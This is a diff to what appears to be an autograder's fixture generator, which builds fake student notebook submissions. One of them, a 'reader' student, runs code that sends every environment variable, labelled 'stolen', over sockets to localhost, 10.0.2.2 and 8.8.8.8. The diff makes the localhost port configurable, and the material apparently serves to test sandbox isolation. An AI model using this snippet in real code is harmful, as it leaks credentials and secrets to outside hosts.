@@ -261,7 +261,7 @@ print('tampered with', len(done), 'files')"""
 
 _NETWORK = """
 import os, socket
-for host, port in (('127.0.0.1', 47831), ('10.0.2.2', 80), ('8.8.8.8', 53)):
+for host, port in (('127.0.0.1', NETWORK_PORT), ('10.0.2.2', 80), ('8.8.8.8', 53)):
     try:
         s = socket.create_connection((host, port), timeout=1)
         s.sendall(b'stolen: ' + repr(dict(os.environ)).encode())
@@ -409,7 +409,7 @@ def _apply(nb, plan):
     return nb
 
 
-def make_demo_class(course_root, out, students=None):
+def make_demo_class(course_root, out, students=None, network_port=NETWORK_PORT):
     """Write the synthetic class's submissions into ``out``.
 
     Parameters
@@ -420,6 +420,8 @@ def make_demo_class(course_root, out, students=None):
         Folder to create: ``out/<student>/<assignment>/<notebook>.ipynb``.
     students : sequence of str, optional
         Names from :data:`DEMO_STUDENTS` (all by default).
+    network_port : int
+        The port on 127.0.0.1 the "reader" student tries to send data to.
 
     Returns
     -------
@@ -434,7 +436,8 @@ def make_demo_class(course_root, out, students=None):
                 release = json.load(fh)
             folder = os.path.join(out, student, assignment)
             os.makedirs(folder, exist_ok=True)
-            text = json.dumps(_apply(release, plan), indent=1)
+            text = json.dumps(_apply(release, plan), indent=1).replace(
+                "NETWORK_PORT", str(int(network_port)))
             if plan.get("truncate"):
                 text = text[: len(text) // 2]
             with open(os.path.join(folder, plan.get("filename", nbname + ".ipynb")), "w") as fh:
